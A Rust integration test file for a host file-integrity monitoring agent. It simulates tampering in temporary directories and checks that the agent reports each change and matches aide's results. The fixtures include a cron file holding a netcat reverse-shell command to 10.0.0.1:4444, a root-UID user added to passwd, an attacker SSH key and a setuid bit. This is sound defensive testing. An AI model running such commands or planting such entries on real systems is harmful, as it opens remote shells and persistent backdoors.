//! File integrity as the file-integrity issue asks: a manifest built at first start, and every
//! change made while the agent was down reported once at the next start, each a finding.

use std::collections::BTreeSet;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::Duration;

use hostwatch_proto::v1 as proto;

use crate::support::{Collector, Manager, agent_log, on_both_stores, start_agent_with, unique, wait_for};

const WAIT: Duration = Duration::from_secs(60);

fn write(path: &Path, text: &str) {
    std::fs::write(path, text).unwrap();
}

/// Sets a file's mtime back, its content unchanged (a timestamp forged after tampering).
fn set_mtime_back(path: &Path) {
    let f = std::fs::File::options().write(true).open(path).unwrap();
    f.set_modified(std::time::SystemTime::UNIX_EPOCH + Duration::from_secs(1_000_000)).unwrap();
}

/// A small tree of every kind of entry.
pub(crate) fn make_tree(root: &Path) {
    std::fs::create_dir_all(root.join("etc/cron.d")).unwrap();
    std::fs::create_dir_all(root.join("bin")).unwrap();
    write(&root.join("etc/passwd"), "root:x:0:0:root:/root:/bin/bash\n");
    write(&root.join("etc/hosts"), "127.0.0.1 localhost\n");
    write(&root.join("etc/motd"), "hello\n");
    write(&root.join("etc/cron.d/job"), "* * * * * root true\n");
    write(&root.join("bin/tool"), "#!/bin/sh\necho tool\n");
    write(&root.join("bin/old-name"), "moved\n");
    write(&root.join("etc/stamp"), "same content\n");
    std::os::unix::fs::symlink("/bin/tool", root.join("bin/link")).unwrap();
}

fn file_events(c: &Collector, host: i64) -> Vec<proto::FileEvent> {
    c.cli_json(&["files", "--host", &host.to_string(), "--limit", "10000"])
}

on_both_stores!(
    #[tokio::test(flavor = "multi_thread")]
    changes_made_while_the_agent_was_down_are_reported_once_at_start
);
async fn changes_made_while_the_agent_was_down_are_reported_once_at_start() {
    let dir = tempfile::tempdir().unwrap();
    let c = Collector::start(dir.path(), "");
    let tree = dir.path().join("watched");
    make_tree(&tree);
    let role = unique("fim");
    let tags = format!("role={role}");
    let env = [("HOSTWATCH_FILES_PATHS", tree.to_str().unwrap())];
    let (mut agent, host) = agent_ready(&c, dir.path(), &role, &env).await;
    assert!(agent.terminate(Duration::from_secs(10)).success());
    // Building the manifest reports nothing (as `aide --init`).
    assert_eq!(file_events(&c, host.id), vec![], "{}", agent_log(dir.path()));

    // While the agent is down: one change of every kind.
    write(&tree.join("etc/passwd"), "root:x:0:0:root:/root:/bin/bash\nevil:x:0:0::/:/bin/sh\n");
    write(&tree.join("etc/new-file"), "new\n");
    std::fs::remove_file(tree.join("etc/motd")).unwrap();
    std::fs::set_permissions(tree.join("bin/tool"), std::fs::Permissions::from_mode(0o4755)).unwrap();
    std::fs::rename(tree.join("bin/old-name"), tree.join("bin/new-name")).unwrap();
    std::fs::remove_file(tree.join("bin/link")).unwrap();
    std::os::unix::fs::symlink("/tmp/evil", tree.join("bin/link")).unwrap();
    std::fs::OpenOptions::new().write(true).truncate(true).open(tree.join("etc/hosts")).unwrap();
    set_mtime_back(&tree.join("etc/stamp"));

    let mut agent = start_agent_with(&c, dir.path(), &tags, &env);
    let path = |p: &str| tree.join(p).display().to_string();
    let expected: BTreeSet<(String, &str)> = [
        (path("etc/passwd"), "modified"),
        (path("etc/new-file"), "created"),
        (path("etc/motd"), "deleted"),
        (path("bin/tool"), "metadata"),
        (path("bin/new-name"), "renamed"),
        (path("bin/link"), "modified"),
        (path("etc/hosts"), "modified"),
        (path("etc/stamp"), "metadata"),
    ]
    .into_iter()
    .collect();
    let events = wait_for("the downtime changes", WAIT, async || {
        let ev = file_events(&c, host.id);
        (ev.len() >= expected.len()).then_some(ev)
    })
    .await;
    let seen: BTreeSet<(String, &str)> =
        events.iter().map(|e| (e.change.path.clone(), e.change.change.as_str())).collect();
    assert_eq!(seen, expected, "{}", agent_log(dir.path()));
    assert!(events.iter().all(|e| e.change.origin == proto::ChangeOrigin::Downtime));
    let passwd = events.iter().find(|e| e.change.path == path("etc/passwd")).unwrap();
    let (old, new) = (passwd.change.old.as_ref().unwrap(), passwd.change.new.as_ref().unwrap());
    assert_ne!(old.sha256, new.sha256);
    assert_eq!(new.sha256.as_deref().map(str::len), Some(64));
    let renamed = events.iter().find(|e| e.change.change == proto::FileChangeKind::Renamed).unwrap();
    assert_eq!(renamed.change.from_path.as_deref(), Some(path("bin/old-name").as_str()));
    let tool = events.iter().find(|e| e.change.path == path("bin/tool")).unwrap();
    assert_eq!(tool.change.new.as_ref().unwrap().mode, 0o4755);

    // The collector's current view of those paths: latest states, the deleted and moved-away gone.
    let current: Vec<proto::FileRecord> = c.cli_json(&["files", "--current", "--host", &host.id.to_string()]);
    let now: BTreeSet<&str> = current.iter().map(|r| r.path.as_str()).collect();
    assert!(
        now.contains(path("etc/passwd").as_str()) && now.contains(path("bin/new-name").as_str()),
        "{now:?}"
    );
    assert!(
        !now.contains(path("etc/motd").as_str()) && !now.contains(path("bin/old-name").as_str()),
        "{now:?}"
    );
    let passwd_now = current.iter().find(|r| r.path == path("etc/passwd")).unwrap();
    assert_eq!(passwd_now.state.sha256, new.sha256);
    assert_eq!(current.iter().find(|r| r.path == path("bin/tool")).map(|r| r.state.mode), Some(0o4755));

    // Each is a finding (no baseline allows anything), subject the path.
    let findings = c.findings(host.id, "file_changed", "open");
    let subjects: BTreeSet<&str> = findings.iter().map(|f| f.subject.as_str()).collect();
    for (p, _) in &expected {
        assert!(subjects.contains(p.as_str()), "no finding for {p}: {subjects:?}");
    }

    // Reported once: a restart with nothing changed reports nothing more.
    assert!(agent.terminate(Duration::from_secs(10)).success());
    let before = file_events(&c, host.id).len();
    let mut agent = start_agent_with(&c, dir.path(), &tags, &env);
    // Wait for the agent to have scanned (its heartbeat carries the manifest's size) ...
    wait_for("the agent's scan after the restart", WAIT, async || {
        let h: proto::HostDetail = c.get(&format!("{}/{}", proto::HOSTS_PATH, host.id)).await;
        let scanned = h.agent_stats.as_ref().and_then(|s| s.files.as_ref()).and_then(|f| f.last_scan);
        scanned.filter(|t| *t > renamed.change.at).map(|_| ())
    })
    .await;
    // ... and for the reports after it to be applied.
    c.more_reports_judged(host.id).await;
    assert_eq!(file_events(&c, host.id).len(), before, "{}", agent_log(dir.path()));
    assert!(agent.terminate(Duration::from_secs(10)).success());
}

on_both_stores!(
    #[tokio::test(flavor = "multi_thread")]
    a_baseline_allows_what_the_workload_changes_and_denies_the_rest
);
async fn a_baseline_allows_what_the_workload_changes_and_denies_the_rest() {
    let dir = tempfile::tempdir().unwrap();
    let c = Collector::start(dir.path(), "");
    let tree = dir.path().join("srv");
    std::fs::create_dir_all(tree.join("www")).unwrap();
    std::fs::create_dir_all(tree.join("conf")).unwrap();
    write(&tree.join("www/index.html"), "v1\n");
    write(&tree.join("www/.htaccess"), "deny\n");
    write(&tree.join("conf/app.conf"), "a=1\n");
    let role = unique("fimrules");
    let baseline = dir.path().join("b.toml");
    write(
        &baseline,
        &format!(
            r#"
name = "{role}"
selector = {{ role = "{role}" }}
[[process]]
name = "*"
[[listen]]
protocol = "tcp"
port = "1-65535"
[[listen]]
protocol = "udp"
port = "1-65535"
[[file]]
path = "{www}/**"
change = "allow"
reason = "the site is deployed here"
[[file]]
path = "{www}/.htaccess"
change = "deny"
[[file]]
path = "{www}"
change = "allow"
"#,
            www = tree.join("www").display()
        ),
    );
    let out = c.cli(&["baseline", "apply", baseline.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let env = [("HOSTWATCH_FILES_PATHS", tree.to_str().unwrap())];
    let (mut agent, host) = agent_ready(&c, dir.path(), &role, &env).await;
    assert!(agent.terminate(Duration::from_secs(10)).success());
    write(&tree.join("www/index.html"), "v2\n");
    write(&tree.join("www/.htaccess"), "allow from all\n");
    write(&tree.join("conf/app.conf"), "a=2\n");
    let mut agent = start_agent_with(&c, dir.path(), &format!("role={role}"), &env);
    wait_for("three changes recorded", WAIT, async || (file_events(&c, host.id).len() >= 3).then_some(()))
        .await;
    let findings = c.findings(host.id, "file_changed", "open");
    let subjects: BTreeSet<String> = findings.iter().map(|f| f.subject.clone()).collect();
    let p = |s: &str| tree.join(s).display().to_string();
    // The content of the site is allowed; .htaccess is denied whatever allows its directory; the
    // configuration is watched and nothing allows its change.
    assert_eq!(
        subjects,
        [p("www/.htaccess"), p("conf/app.conf")].into_iter().collect::<BTreeSet<_>>(),
        "{}",
        agent_log(dir.path())
    );
    assert!(agent.terminate(Duration::from_secs(10)).success());
}

/// Starts an agent watching `paths` (a comma-separated list) and waits until its first manifest
/// is written; returns it and its host.
async fn watching(c: &Collector, dir: &Path, paths: &str) -> (crate::support::Guard, proto::Host) {
    agent_ready(c, dir, &unique("fimlive"), &[("HOSTWATCH_FILES_PATHS", paths)]).await
}

/// Starts an agent tagged `role=ROLE` with `env`, and waits until its manifest is written and its
/// host is online.
pub(crate) async fn agent_ready(
    c: &Collector,
    dir: &Path,
    role: &str,
    env: &[(&str, &str)],
) -> (crate::support::Guard, proto::Host) {
    let manifest = dir.join("agent-state").join("files.manifest");
    let agent = start_agent_with(c, dir, &format!("role={role}"), env);
    wait_for("the first manifest", WAIT, async || manifest.exists().then_some(())).await;
    let host = c.online(role).await;
    (agent, host)
}

/// Waits until the changes reported for `host` include every (path, change) of `expected`.
async fn until_reported(c: &Collector, host: i64, expected: &[(String, &str)]) -> Vec<proto::FileEvent> {
    let deadline = std::time::Instant::now() + WAIT;
    loop {
        let ev = file_events(c, host);
        let seen: BTreeSet<(String, &str)> =
            ev.iter().map(|e| (e.change.path.clone(), e.change.change.as_str())).collect();
        if expected.iter().all(|x| seen.contains(x)) {
            return ev;
        }
        assert!(std::time::Instant::now() < deadline, "waited {WAIT:?} for {expected:?}; reported: {seen:?}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn live_changes_are_reported_as_they_happen_one_change_each() {
    let dir = tempfile::tempdir().unwrap();
    let c = Collector::start(dir.path(), "");
    let tree = dir.path().join("live");
    make_tree(&tree);
    let (mut agent, host) = watching(&c, dir.path(), tree.to_str().unwrap()).await;
    let p = |s: &str| tree.join(s).display().to_string();

    // An editor's save: write a temporary file, rename it over the original, set its mode.
    let tmp = tree.join("etc/.passwd.swp");
    write(&tmp, "root:x:0:0:root:/root:/bin/bash\nmallory:x:0:0::/:/bin/sh\n");
    std::fs::rename(&tmp, tree.join("etc/passwd")).unwrap();
    std::fs::set_permissions(tree.join("etc/passwd"), std::fs::Permissions::from_mode(0o644)).unwrap();
    let ev = until_reported(&c, host.id, &[(p("etc/passwd"), "modified")]).await;
    let passwd: Vec<&proto::FileEvent> = ev.iter().filter(|e| e.change.path == p("etc/passwd")).collect();
    assert_eq!(passwd.len(), 1, "write, rename and chmod are one change: {passwd:?}");
    assert_eq!(passwd[0].change.origin, proto::ChangeOrigin::Live);
    assert!(
        !ev.iter().any(|e| e.change.path.contains(".passwd.swp")),
        "the editor's temporary file came and went"
    );

    // A watched directory deleted and made again is still watched.
    std::fs::remove_dir_all(tree.join("etc/cron.d")).unwrap();
    until_reported(&c, host.id, &[(p("etc/cron.d"), "deleted"), (p("etc/cron.d/job"), "deleted")]).await;
    std::fs::create_dir(tree.join("etc/cron.d")).unwrap();
    // Its creation reported is the mark that the agent has seen it, and watches it, before the
    // file inside is written (was a fixed 500 ms pause).
    until_reported(&c, host.id, &[(p("etc/cron.d"), "created")]).await;
    write(&tree.join("etc/cron.d/backdoor"), "* * * * * root nc -e /bin/sh 10.0.0.1 4444\n");
    until_reported(&c, host.id, &[(p("etc/cron.d/backdoor"), "created")]).await;

    // A directory renamed: what changes inside it later is reported under its new name.
    std::fs::rename(tree.join("bin"), tree.join("sbin")).unwrap();
    until_reported(&c, host.id, &[(p("sbin"), "renamed"), (p("sbin/tool"), "renamed")]).await;
    write(&tree.join("sbin/tool"), "#!/bin/sh\nevil\n");
    until_reported(&c, host.id, &[(p("sbin/tool"), "modified")]).await;
    let ev = file_events(&c, host.id);
    assert!(
        !ev.iter()
            .any(|e| e.change.path.starts_with(&p("bin/"))
                && e.change.change != proto::FileChangeKind::Renamed),
        "nothing reported under the old name after the move: {ev:?}"
    );

    // A symlink retargeted, and a file whose mtime alone is set back.
    std::fs::remove_file(tree.join("sbin/link")).unwrap();
    std::os::unix::fs::symlink("/tmp/elsewhere", tree.join("sbin/link")).unwrap();
    set_mtime_back(&tree.join("etc/stamp"));
    until_reported(&c, host.id, &[(p("sbin/link"), "modified"), (p("etc/stamp"), "metadata")]).await;
    assert!(agent.terminate(Duration::from_secs(10)).success());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_queue_overflow_is_counted_and_every_change_still_reported() {
    let dir = tempfile::tempdir().unwrap();
    let c = Collector::start(dir.path(), "");
    let tree = dir.path().join("burst");
    std::fs::create_dir_all(&tree).unwrap();
    let (mut agent, host) = watching(&c, dir.path(), tree.to_str().unwrap()).await;
    // The agent stopped while 50,000 files are made: three events each, far past the kernel's
    // queue of 16,384, so events are certainly lost.
    nix::sys::signal::kill(nix::unistd::Pid::from_raw(agent.pid()), nix::sys::signal::Signal::SIGSTOP)
        .unwrap();
    const N: usize = 50_000;
    for i in 0..N {
        std::fs::write(tree.join(format!("f{i:05}")), b"x").unwrap();
    }
    nix::sys::signal::kill(nix::unistd::Pid::from_raw(agent.pid()), nix::sys::signal::Signal::SIGCONT)
        .unwrap();
    let created = wait_for("every file reported", Duration::from_secs(180), async || {
        let ev: Vec<proto::FileEvent> =
            c.cli_json(&["files", "--host", &host.id.to_string(), "--limit", "100000"]);
        (ev.len() >= N).then_some(ev)
    })
    .await;
    let paths: BTreeSet<&str> = created.iter().map(|e| e.change.path.as_str()).collect();
    assert_eq!(paths.len(), N, "each once");
    assert_eq!(created.len(), N, "each once");
    assert!(created.iter().all(|e| e.change.change == proto::FileChangeKind::Created));
    assert!(
        created.iter().all(|e| e.change.origin == proto::ChangeOrigin::Rescan),
        "found by the rescan after the overflow"
    );
    let h: proto::HostDetail = c.get(&format!("{}/{}", proto::HOSTS_PATH, host.id)).await;
    let files = h.agent_stats.and_then(|s| s.files).expect("file stats in the heartbeat");
    assert!(files.overflows >= 1, "{files:?}");
    assert!(agent.terminate(Duration::from_secs(10)).success());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_watched_path_that_does_not_exist_is_reported_and_taken_up_when_it_appears() {
    let dir = tempfile::tempdir().unwrap();
    let c = Collector::start(dir.path(), "");
    let later = dir.path().join("not-yet").join("keys");
    let (mut agent, host) = watching(&c, dir.path(), later.to_str().unwrap()).await;
    let missing = wait_for("the missing path in the heartbeat", WAIT, async || {
        let h: proto::HostDetail = c.get(&format!("{}/{}", proto::HOSTS_PATH, host.id)).await;
        h.agent_stats.and_then(|s| s.files).filter(|f| !f.missing.is_empty()).map(|f| f.missing)
    })
    .await;
    assert_eq!(missing, [later.display().to_string()]);
    std::fs::create_dir_all(&later).unwrap();
    write(&later.join("authorized_keys"), "ssh-ed25519 AAAA attacker\n");
    let key = later.join("authorized_keys").display().to_string();
    let ev = until_reported(&c, host.id, &[(key.clone(), "created")]).await;
    assert!(ev.iter().any(|e| e.change.path == key && e.change.origin == proto::ChangeOrigin::Live));
    assert!(agent.terminate(Duration::from_secs(10)).success());
}

#[tokio::test(flavor = "multi_thread")]
async fn changes_a_package_made_carry_its_name_and_a_hand_edit_is_told_apart() {
    package_changes_are_put_down_to_their_package(Manager::Dpkg).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn changes_an_rpm_package_made_carry_its_name_and_a_hand_edit_is_told_apart() {
    package_changes_are_put_down_to_their_package(Manager::Rpm).await;
}

/// Install, upgrade, a hand edit, removal, with `m`'s database under a root of the test's own:
/// each change carries the package (by the digest the database records: dpkg's MD5, rpm's
/// SHA-256), and the hand edit is told apart.
async fn package_changes_are_put_down_to_their_package(m: Manager) {
    let dir = tempfile::tempdir().unwrap();
    let c = Collector::start(dir.path(), "");
    let root = dir.path().join("root");
    m.init(&root);
    let role = unique("fimpkg");
    let (var, db) = m.setting(&root);
    let env = [(var, db), ("HOSTWATCH_FILES_PATHS", root.join("opt").display().to_string())];
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let (mut agent, host) = agent_ready(&c, dir.path(), &role, &env).await;
    let tool = root.join("opt/hwtest/bin/tool").display().to_string();
    let package_of = |ev: &[proto::FileEvent], change: &str| {
        // Newest first: the latest such change.
        ev.iter()
            .find(|e| e.change.path == tool && e.change.change.as_str() == change)
            .and_then(|e| e.change.package.clone())
    };
    let d = dir.path();

    // Installed: created, by hwtest 1.0, as recorded.
    m.install(&root, d, "hwtest", "1.0", "opt/hwtest/bin/tool", b"#!/bin/sh\necho one\n");
    let ev = until_reported(&c, host.id, &[(tool.clone(), "created")]).await;
    assert_eq!(
        package_of(&ev, "created"),
        Some(proto::PackageMatch { name: "hwtest".into(), version: Some(m.recorded("1.0")), matches: true }),
        "{}",
        agent_log(dir.path())
    );
    // A package-made change is kept at severity info, not raised.
    let f = c
        .findings(host.id, "file_changed", "open")
        .into_iter()
        .find(|f| f.subject == tool)
        .expect("a finding");
    assert_eq!(f.severity, proto::Severity::Info);

    // Upgraded: modified, by hwtest 2.0.
    m.install(&root, d, "hwtest", "2.0", "opt/hwtest/bin/tool", b"#!/bin/sh\necho two\n");
    let ev = until_reported(&c, host.id, &[(tool.clone(), "modified")]).await;
    assert_eq!(
        package_of(&ev, "modified").map(|p| (p.version, p.matches)),
        Some((Some(m.recorded("2.0")), true))
    );

    // Edited by hand: still hwtest's file, but not what it installed; a finding of full severity.
    let before = file_events(&c, host.id).len();
    write(&root.join("opt/hwtest/bin/tool"), "#!/bin/sh\necho pwned\n");
    let ev = wait_for("the hand edit", WAIT, async || {
        let ev = file_events(&c, host.id);
        (ev.len() > before).then_some(ev)
    })
    .await;
    assert_eq!(package_of(&ev, "modified").map(|p| (p.name, p.matches)), Some(("hwtest".into(), false)));
    let f = c
        .findings(host.id, "file_changed", "open")
        .into_iter()
        .find(|f| f.subject == tool)
        .expect("a finding");
    assert_eq!(f.severity, proto::Severity::High);

    // Removed: deleted, by its package.
    m.remove(&root, "hwtest");
    let ev = until_reported(&c, host.id, &[(tool.clone(), "deleted")]).await;
    assert_eq!(package_of(&ev, "deleted").map(|p| (p.name, p.matches)), Some(("hwtest".into(), true)));
    assert!(agent.terminate(Duration::from_secs(10)).success());
}

/// `aide` with a configuration of the test's own over `tree`: the attributes the agent compares
/// (content by SHA-256, size, mode, owner, group, mtime, file type, link target; of a directory
/// its mode, owner, group and type only, as the agent takes a directory's mtime as its entries').
fn aide(dir: &Path, tree: &Path, args: &[&str]) -> std::process::Output {
    let conf = dir.join("aide.conf");
    let t = tree.display();
    write(
        &conf,
        &format!(
            "database_in=file:{d}/aide.db\ndatabase_out=file:{d}/aide.db.new\ngzip_dbout=no\n\
             report_format=json\nreport_url=stdout\n\
             FileRule = p+u+g+s+m+sha256+ftype+l\nDirRule = p+u+g+ftype\n\
             {t} f,l FileRule\n{t} d DirRule\n",
            d = dir.display()
        ),
    );
    crate::support::tool("aide")
        .arg("-c")
        .arg(&conf)
        .args(args)
        .output()
        .expect("aide (Debian's aide package; .ci/run installs it)")
}

type Sets = (BTreeSet<String>, BTreeSet<String>, BTreeSet<String>);

/// What the agent reported, in aide's terms: added, removed, changed paths (a rename is the old
/// path removed and the new one added).
fn as_aide_sees(events: &[proto::FileEvent]) -> Sets {
    let (mut added, mut removed, mut changed) = (BTreeSet::new(), BTreeSet::new(), BTreeSet::new());
    // Oldest first, so that a later change of a path decides.
    for e in events.iter().rev() {
        let c = &e.change;
        match c.change {
            proto::FileChangeKind::Created => {
                removed.remove(&c.path);
                added.insert(c.path.clone());
            }
            proto::FileChangeKind::Deleted => {
                if !added.remove(&c.path) {
                    removed.insert(c.path.clone());
                }
                changed.remove(&c.path);
            }
            proto::FileChangeKind::Renamed => {
                let from = c.from_path.clone().unwrap();
                if !added.remove(&from) {
                    removed.insert(from.clone());
                }
                changed.remove(&from);
                added.insert(c.path.clone());
            }
            proto::FileChangeKind::Modified | proto::FileChangeKind::Metadata => {
                if !added.contains(&c.path) {
                    changed.insert(c.path.clone());
                }
            }
        }
    }
    (added, removed, changed)
}

#[tokio::test(flavor = "multi_thread")]
async fn every_kind_of_change_is_what_aide_finds() {
    let dir = tempfile::tempdir().unwrap();
    let c = Collector::start(dir.path(), "");
    let tree = dir.path().join("oracle");
    make_tree(&tree);
    write(&tree.join("etc/shadow"), "root:*:19000:0:99999:7:::\n");
    std::fs::set_permissions(tree.join("etc/shadow"), std::fs::Permissions::from_mode(0o600)).unwrap();
    write(&tree.join("etc/conf"), "a=1\n");
    std::fs::create_dir_all(tree.join("d1/sub")).unwrap();
    write(&tree.join("d1/sub/x"), "x\n");
    let init = aide(dir.path(), &tree, &["--init"]);
    assert!(init.status.success(), "aide --init: {}", String::from_utf8_lossy(&init.stderr));
    std::fs::rename(dir.path().join("aide.db.new"), dir.path().join("aide.db")).unwrap();
    let (mut agent, host) = watching(&c, dir.path(), tree.to_str().unwrap()).await;

    // Every kind of change, each on its own path.
    write(&tree.join("etc/new"), "created\n");
    std::fs::OpenOptions::new()
        .append(true)
        .open(tree.join("etc/passwd"))
        .map(|mut f| {
            use std::io::Write;
            f.write_all(b"mallory:x:0:0::/:/bin/sh\n")
        })
        .unwrap()
        .unwrap();
    std::fs::OpenOptions::new().write(true).truncate(true).open(tree.join("etc/hosts")).unwrap();
    std::fs::set_permissions(tree.join("etc/shadow"), std::fs::Permissions::from_mode(0o644)).unwrap();
    std::os::unix::fs::chown(tree.join("etc/conf"), Some(12345), Some(12345)).unwrap();
    std::fs::remove_file(tree.join("etc/motd")).unwrap();
    write(&tree.join("bin/.tool.new"), "#!/bin/sh\nreplaced\n");
    std::fs::rename(tree.join("bin/.tool.new"), tree.join("bin/tool")).unwrap();
    std::fs::remove_file(tree.join("bin/link")).unwrap();
    std::os::unix::fs::symlink("/elsewhere", tree.join("bin/link")).unwrap();
    std::fs::rename(tree.join("d1"), tree.join("d2")).unwrap();
    set_mtime_back(&tree.join("bin/old-name"));

    let check = aide(dir.path(), &tree, &["--check"]);
    let report: serde_json::Value = serde_json::from_slice(&check.stdout)
        .unwrap_or_else(|e| panic!("aide --check: {e}: {}", String::from_utf8_lossy(&check.stderr)));
    let keys = |k: &str| -> BTreeSet<String> {
        report[k].as_object().map(|o| o.keys().cloned().collect()).unwrap_or_default()
    };
    let expected: Sets = (keys("added"), keys("removed"), keys("changed"));
    // Aide saw each kind (the test changed what it meant to).
    assert_eq!((expected.0.len(), expected.1.len(), expected.2.len()), (4, 4, 7), "{expected:?}");
    let deadline = std::time::Instant::now() + WAIT;
    loop {
        let got = as_aide_sees(&file_events(&c, host.id));
        if got == expected {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the agent: {got:?}\naide: {expected:?}\n{}",
            agent_log(dir.path())
        );
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    assert!(agent.terminate(Duration::from_secs(10)).success());
}

#[tokio::test(flavor = "multi_thread")]
async fn directories_beyond_the_watch_budget_degrade_coverage_and_say_so() {
    let dir = tempfile::tempdir().unwrap();
    let c = Collector::start(dir.path(), "");
    let tree = dir.path().join("many");
    for d in ["a", "b", "c/d"] {
        std::fs::create_dir_all(tree.join(d)).unwrap();
    }
    let env = [("HOSTWATCH_FILES_PATHS", tree.to_str().unwrap()), ("HOSTWATCH_FILES_MAX_WATCHES", "2")];
    let (mut agent, h) = agent_ready(&c, dir.path(), &unique("fimbudget"), &env).await;
    let (host, files) = wait_for("the budget in the heartbeat", WAIT, async || {
        let d: proto::HostDetail = c.get(&format!("{}/{}", proto::HOSTS_PATH, h.id)).await;
        let f = d.agent_stats.and_then(|s| s.files).filter(|f| f.last_scan.is_some())?;
        Some((d.host, f))
    })
    .await;
    // Five directories (the root, a, b, c, c/d), two watches.
    assert_eq!((files.watches, files.unwatched_dirs), (2, 3), "{files:?}");
    assert_eq!(host.coverage.state, proto::CoverageState::Degraded);
    assert!(
        host.coverage.why.iter().any(|w| w.contains("3 watched directories beyond the inotify watch budget")),
        "{:?}",
        host.coverage.why
    );
    assert!(agent.terminate(Duration::from_secs(10)).success());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_damaged_manifest_is_rebuilt_and_the_coverage_says_where_it_was_damaged() {
    let dir = tempfile::tempdir().unwrap();
    let c = Collector::start(dir.path(), "");
    let tree = dir.path().join("t");
    make_tree(&tree);
    let role = unique("fimdamaged");
    let env = [("HOSTWATCH_FILES_PATHS", tree.to_str().unwrap())];
    let (mut agent, host) = agent_ready(&c, dir.path(), &role, &env).await;
    assert!(agent.terminate(Duration::from_secs(10)).success());
    let manifest = dir.path().join("agent-state").join("files.manifest");
    let text = std::fs::read_to_string(&manifest).unwrap();
    let mut lines: Vec<&str> = text.lines().collect();
    lines[3] = "{\"p\": \"/half";
    std::fs::write(&manifest, lines.join("\n")).unwrap();
    let mut agent = start_agent_with(&c, dir.path(), &format!("role={role}"), &env);
    let why = wait_for("the damage in the coverage", WAIT, async || {
        let h: proto::HostDetail = c.get(&format!("{}/{}", proto::HOSTS_PATH, host.id)).await;
        h.host.coverage.why.into_iter().find(|w| w.contains("file manifest rebuilt"))
    })
    .await;
    assert!(why.contains("files.manifest:4:"), "{why}");
    // Rebuilt, not compared: nothing is reported as changed.
    assert_eq!(file_events(&c, host.id), vec![]);
    assert!(agent.terminate(Duration::from_secs(10)).success());
}
